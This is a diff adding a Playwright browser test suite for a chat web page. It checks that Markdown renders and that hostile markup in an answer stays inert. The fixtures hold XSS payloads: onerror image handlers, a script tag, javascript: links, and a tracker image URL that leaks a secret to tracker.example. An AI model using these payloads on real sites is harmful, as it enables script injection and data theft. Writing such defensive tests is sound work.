@@ -1,0 +1,156 @@
+"""The web chat end to end in headless Chromium (Debian's package) driven by Playwright.
+
+One gateway (fake model on 127.0.0.1) and one browser serve the module; each test opens its own
+logged-in tab, as a person would. What is asserted is what the page shows: rendered Markdown and
+code blocks, hostile markup in an answer shown as text (and never run), tool steps as they happen,
+the conversation back after a reload, the list of chats by title, one word when Stop is pressed.
+Screenshots land in test-artifacts/webchat/.
+
+Outside CI the module skips when Playwright or Chromium is missing; with CI=true it must run.
+"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import AsyncIterator
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+import pytest_asyncio
+
+from tests.conftest import ROOT, model_config
+from tests.fakes.gateway_harness import TOKEN, api_section, start_gateway
+from tests.fakes.model_server import FakeModelServer, text
+from tests.test_dashboard_browser import CHROMIUM, CHROMIUM_ARGS, browser_problem
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+ARTIFACTS = ROOT / "test-artifacts" / "webchat"
+TIMEOUT_MS = 30_000  # the first turn imports LiteLLM; the machine may be busy
+MARKDOWN_ANSWER = """# Deploy plan
+
+Run **all** the checks, then `make release`:
+
+```python
+print("<b>not bold</b>")
+```
+
+| step | who |
+| --- | --- |
+| tag | ci |
+"""
+HOSTILE_ANSWER = """Here you go:
+
+<img src=x onerror="window.pwned='img'"> and <script>window.pwned='script'</script>
+
+[click me](javascript:window.pwned='link') and ![tracker](https://tracker.example/p.png?d=SECRET)
+
+<a href="javascript:window.pwned='a'">raw link</a>
+
+```html
+<img src=y onerror="window.pwned='code'">
+```
+"""
+
+
+@dataclass
+class Env:
+    gateway: Any
+    model: FakeModelServer
+    browser: Any
+    url: str
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def env(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Env]:
+    problem = browser_problem()
+    if problem is not None:
+        if os.environ.get("CI") == "true":
+            pytest.fail(f"browser tests must run in CI: {problem}")
+        pytest.skip(problem)
+    from playwright.async_api import async_playwright
+
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    model = FakeModelServer()
+    await model.start()
+    home = tmp_path_factory.mktemp("webchat") / "home"
+    gateway, _ = await start_gateway(home, model_config(model) + api_section(), platforms=())
+    try:
+        async with async_playwright() as playwright:
+            browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
+            try:
+                yield Env(gateway, model, browser, gateway.url.rstrip("/"))
+            finally:
+                await browser.close()
+    finally:
+        await gateway.stop()
+        await model.stop()
+
+
+@pytest_asyncio.fixture(loop_scope="module")
+async def page(env: Env) -> AsyncIterator[Any]:
+    """A fresh browser (its own storage: a new person) logged in through the form at /."""
+    context = await env.browser.new_context(viewport={"width": 1280, "height": 900})
+    context.set_default_timeout(TIMEOUT_MS)
+    tab = await context.new_page()
+    tab.errors = []
+    tab.on("pageerror", lambda error: tab.errors.append(str(error)))
+    await tab.goto(env.url + "/")
+    await tab.fill("#token", TOKEN)
+    await tab.click("button[type=submit]")
+    await tab.wait_for_selector("#text")
+    yield tab
+    await context.close()
+
+
+async def send(tab: Any, message: str) -> None:
+    await tab.fill("#text", message)
+    await tab.press("#text", "Enter")
+
+
+async def last_answer(tab: Any, containing: str) -> Any:
+    """The newest answer bubble once it shows `containing` and the answer is complete."""
+    answer = tab.locator(".msg.bot").last
+    await answer.filter(has_text=containing).wait_for()
+    await tab.wait_for_function("() => !document.body.classList.contains('busy')")
+    return answer
+
+
+async def shot(tab: Any, name: str) -> None:
+    await tab.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)
+
+
+async def test_an_answer_in_markdown_is_rendered_with_its_code_block(env: Env, page: Any) -> None:
+    env.model.add(text(MARKDOWN_ANSWER, word_delay=0.01), purpose="chat")
+    await send(page, "How do I deploy?")
+    answer = await last_answer(page, "make release")
+    assert await answer.locator("h1").inner_text() == "Deploy plan"
+    assert await answer.locator("strong").inner_text() == "all"
+    assert await answer.locator("p code").inner_text() == "make release"
+    code = answer.locator("pre code.language-python")
+    assert (await code.inner_text()).strip() == 'print("<b>not bold</b>")'
+    assert await code.locator("b").count() == 0
+    assert await answer.locator("table td").all_inner_texts() == ["tag", "ci"]
+    assert "```" not in await answer.inner_text() and "**" not in await answer.inner_text()
+    await shot(page, "markdown")
+
+
+async def test_markup_inside_markdown_is_shown_as_text_and_never_runs(env: Env, page: Any) -> None:
+    env.model.add(text(HOSTILE_ANSWER), purpose="chat")
+    await send(page, 'Show me <img src=z onerror="window.pwned=\'mine\'">')
+    answer = await last_answer(page, "raw link")
+    shown = await answer.inner_text()
+    assert "<img src=x onerror=" in shown and "<script>window.pwned='script'</script>" in shown
+    assert '<a href="javascript:' in shown and "[click me](javascript:" in shown
+    assert '<img src=y onerror="window.pwned=\'code\'">' in await answer.locator("pre code").inner_text()
+    log = page.locator("#log")
+    assert await log.locator("img, script, iframe, [onerror]").count() == 0
+    assert await log.locator("a[href^='javascript']").count() == 0
+    tracker = answer.locator("a", has_text="tracker")  # an image is a link, so nothing loads by itself
+    assert await tracker.get_attribute("href") == "https://tracker.example/p.png?d=SECRET"
+    assert await tracker.get_attribute("rel") == "noopener noreferrer"
+    assert '<img src=z onerror="window.pwned=\'mine\'">' in await page.locator(".msg.user").last.inner_text()
+    assert await page.evaluate("() => window.pwned") is None
+    assert page.errors == []
+    await shot(page, "hostile")
